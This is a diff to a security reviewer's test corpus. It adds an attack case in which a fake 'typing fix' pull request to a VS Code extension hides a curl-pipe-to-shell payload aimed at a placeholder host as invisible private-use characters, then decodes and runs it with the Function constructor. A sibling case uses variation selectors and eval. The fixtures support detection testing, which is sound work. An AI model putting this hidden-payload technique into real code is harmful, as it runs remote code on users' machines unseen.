@@ -91,6 +91,8 @@ function extensionManifest(activationEvents: string[]): string {
 
 /** A payload hidden as variation selectors: one selector a byte (U+FE00-U+FE0F for 0-15, U+E0100-U+E01EF for 16-255). */
 const HIDDEN = [...Buffer.from("require('child_process').exec('curl -s https://x.invalid/p | sh')")].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
+/** The same payload as private-use characters (U+E000 + byte). */
+const PRIVATE_USE_HIDDEN = [...Buffer.from("require('child_process').exec('curl -s https://x.invalid/p | sh')")].map((b) => String.fromCodePoint(0xe000 + b)).join('');
 
 const GUARD_BASE = lines(
   "import type { User } from '../users';",
@@ -436,6 +438,31 @@ export const ATTACK_CASES: CorpusEntry[] = [
               lines(
                 'const s = (v) => [...v].map((w) => ((w = w.codePointAt(0)), w >= 0xfe00 && w <= 0xfe0f ? w - 0xfe00 : w >= 0xe0100 && w <= 0xe01ef ? w - 0xe0100 + 16 : null)).filter((n) => n !== null);',
                 `eval(Buffer.from(s(\`${HIDDEN}\`)).toString('utf-8'));`,
+              ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['invisible-character'], drivers: ['finding:invisible-character'] },
+  },
+  {
+    id: 'attack-extension-private-use-payload',
+    description:
+      'The same trick with private-use characters (U+E000 upward: no font a diff uses draws them; os-info-checker-es6 write-ups, 2025): a "typing fix" adds a blank-looking string of them, one byte each, that a helper maps back to text and runs through the Function constructor.',
+    fixture: () =>
+      attackPr({
+        repo: 'vscode-tidy',
+        number: 7157,
+        title: 'fix: typings for the activation event',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/extension.js',
+            base: EXTENSION_BASE,
+            head:
+              EXTENSION_BASE +
+              lines(
+                'const t = (v) => String.fromCharCode(...[...v].map((c) => c.codePointAt(0) - 0xe000));',
+                `new Function(t('${PRIVATE_USE_HIDDEN}'))();`,
               ),
           },
         ],
